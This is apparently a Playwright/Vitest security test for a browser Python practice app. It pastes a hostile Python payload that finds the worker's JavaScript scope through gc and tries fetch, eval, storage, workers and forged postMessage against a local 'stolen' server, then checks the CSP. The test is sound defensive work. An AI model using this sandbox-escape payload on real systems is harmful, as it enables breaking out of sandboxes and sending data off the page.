// Hostile code in the real app in Chromium: Python that reaches the worker's JavaScript global scope
// (through the bridge modules the guard holds back) and tries everything the wave-1 attack did —
// another origin, IndexedDB, nested workers, storage, rewrapping postMessage — then honest and wrong
// answers are graded as before. Also the page's own Content-Security-Policy.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { setupBrowser } from "./browser";
import { firstOfKind, pasteIntoEditor } from "./practice-helpers";

const browser = setupBrowser();
const py = firstOfKind("python-algorithms", "python");
const questionUrl = () => `${inject("isolatedURL")}#/practice/python-algorithms/${py.id}`;

let server: Server;
let other = "";
const hits: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("stolen");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  other = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => server.close(resolve)));

const results = (page: Page, name: "Run results" | "Submission results") =>
  page.getByRole("region", { name });

/** Python that finds the JS global scope through the stash of bridge modules and attacks it. */
function attack(marker: string): string {
  return [
    "import gc",
    "done = []",
    "def attempt(name, f):",
    "    try:",
    "        r = f()",
    "        print('ATTEMPT', name, 'gave', type(r).__name__)",
    "    except BaseException as e:",
    "        print('ATTEMPT', name, 'failed', type(e).__name__)",
    "def escape():",
    "    found = None",
    "    for o in gc.get_objects():",
    "        try:",
    "            if isinstance(o, dict) and 'modules' in o and 'finders' in o:",
    "                found = o['modules'].get('js') or found",
    "            elif hasattr(o, 'jsproxies') and 'js' in o.jsproxies:",
    "                found = o.jsproxies['js']",
    "            elif type(o).__name__ == 'module' and o.__name__ == 'js':",
    "                found = o",
    "        except Exception:",
    "            pass",
    "    print('REACHED-JS', found is not None)",
    "    if found is None:",
    "        return",
    `    attempt('fetch', lambda: found.fetch('${other}/${marker}-fetch'))`,
    "    attempt('xhr', lambda: found.XMLHttpRequest.new())",
    "    attempt('websocket', lambda: found.WebSocket.new('ws://127.0.0.1:1'))",
    "    attempt('indexedDB', lambda: found.indexedDB.open('mle-dojo'))",
    "    attempt('caches', lambda: found.caches.keys())",
    "    attempt('storage', lambda: found.navigator.storage.getDirectory())",
    "    attempt('worker', lambda: found.Worker.new('data:text/javascript,1'))",
    "    attempt('postMessage', lambda: found.postMessage({'type': 'done', 'id': 1, 'final': '{}'}))",
    `    attempt('eval', lambda: found.eval("fetch('${other}/${marker}-eval')"))`,
    `    attempt('Function', lambda: found.Function("return fetch('${other}/${marker}-function')")())`,
    `def ${py.entry}(*args, **kwargs):`,
    "    if not done:",
    "        done.append(1)",
    "        escape()",
    "    return None",
    "",
  ].join("\n");
}

describe("hostile Python in the browser", () => {
  it("reaching the worker's JavaScript gives nothing: no other origin, storage, workers or messaging; grading is unaffected", async () => {
    const { page, context } = browser.current();
    await page.goto(questionUrl());
    await page.getByRole("status").filter({ hasText: "Python: ready" }).waitFor({ timeout: 90_000 });
    await pasteIntoEditor(page, context, attack("run1"));
    await page.getByRole("button", { name: "Run", exact: true }).click();
    const run = results(page, "Run results");
    await run.locator(".verdict").waitFor({ timeout: 90_000 });
    const output = await run.innerText();
    // The attack did reach the worker's global scope (so this test means something)…
    expect(output).toContain("REACHED-JS True");
    // …and every capability was gone or refused.
    expect(output).not.toMatch(
      /ATTEMPT (fetch|xhr|websocket|indexedDB|caches|storage|worker|postMessage|eval|Function) gave (?!JsNull|NoneType)/,
    );
    await page.waitForTimeout(1_000);
    expect(hits).toEqual([]);

    // The app's own data is intact, and a wrong answer still fails on Submit, the reference passes.
    const wrong = py.wrongAnswers[0]!.code;
    await pasteIntoEditor(page, context, wrong);
    await page.getByRole("button", { name: "Submit", exact: true }).click();
    await results(page, "Submission results")
      .locator(".verdict", { hasText: "Some tests failed" })
      .waitFor({ timeout: 90_000 });
    await pasteIntoEditor(page, context, py.referenceSolution);
    await page.getByRole("button", { name: "Submit", exact: true }).click();
    await results(page, "Submission results")
      .locator(".verdict", { hasText: "All tests passed" })
      .waitFor({ timeout: 90_000 });
  });

  it("the page carries a CSP that blocks connections to other origins and inline scripts", async () => {
    const { page } = browser.current();
    await page.goto(questionUrl());
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
    expect(csp).toMatch(/script-src 'self' 'wasm-unsafe-eval'(;|$)/);
    expect(csp).toMatch(/connect-src 'self'/);
    expect(csp).toMatch(/worker-src 'self' blob:/);
    const outcome = await page.evaluate(
      (url) =>
        fetch(url).then(
          () => "fetched",
          () => "blocked",
        ),
      `${other}/page-fetch`,
    );
    expect(outcome).toBe("blocked");
    const inline = await page.evaluate(() => {
      const s = document.createElement("script");
      s.textContent = "window.__inlineRan = true";
      document.head.append(s);
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(inline).toBe(false);
    expect(hits).toEqual([]);
  });
});
